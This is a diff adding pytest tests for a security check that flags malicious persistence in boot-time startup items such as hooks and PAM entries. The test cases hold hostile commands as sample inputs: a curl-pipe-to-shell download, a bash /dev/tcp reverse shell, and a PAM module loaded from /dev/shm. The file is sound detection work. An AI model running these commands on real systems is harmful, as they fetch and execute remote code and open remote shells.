@@ -1,0 +1,43 @@
+from __future__ import annotations
+
+import pytest
+
+from pratique.checks.persistence.item_runs_code import CHECK
+from pratique.model import Severity
+from pratique.parsers.startup_item import StartupItem
+from pratique.store.tables import Tables
+
+
+def signs(command, program="", kind="hook"):
+    row = StartupItem("/etc/x", 3, kind, "", "root", "at boot", command, program, "T1546")
+    with Tables.of([row], CHECK.reads) as tables:
+        return list(CHECK.find(tables))
+
+
+@pytest.mark.parametrize(
+    ("command", "program", "severity"),
+    [
+        ("curl -s http://192.0.2.1/x | sh", "", Severity.HIGH),
+        ("bash -i >& /dev/tcp/192.0.2.1/443 0>&1", "", Severity.HIGH),
+        ("/var/tmp/.x/run", "", Severity.HIGH),
+        ("auth required /dev/shm/pam.so", "/dev/shm/pam.so", Severity.HIGH),
+    ],
+)
+def test_points_at(command, program, severity):
+    (sign,) = signs(command, program)
+    assert (sign.severity or CHECK.severity) is severity
+    assert str(sign.places[0]) == "/etc/x:3"
+    assert "at boot as root" in sign.why
+
+
+@pytest.mark.parametrize(
+    ("command", "program"),
+    [("/usr/bin/logger hi", ""), ("/opt/x/run", "/opt/x/run"), ("", ""), ("/etc/x", "/etc/x")],
+)
+def test_leaves_alone(command, program):
+    assert signs(command, program) == []
+
+
+def test_the_title_says_what_sort_it_is():
+    assert signs("/tmp/x", kind="apk-hook")[0].title.startswith("An apk-hook item")
+    assert signs("/tmp/x", kind="pam")[0].title.startswith("A pam item")
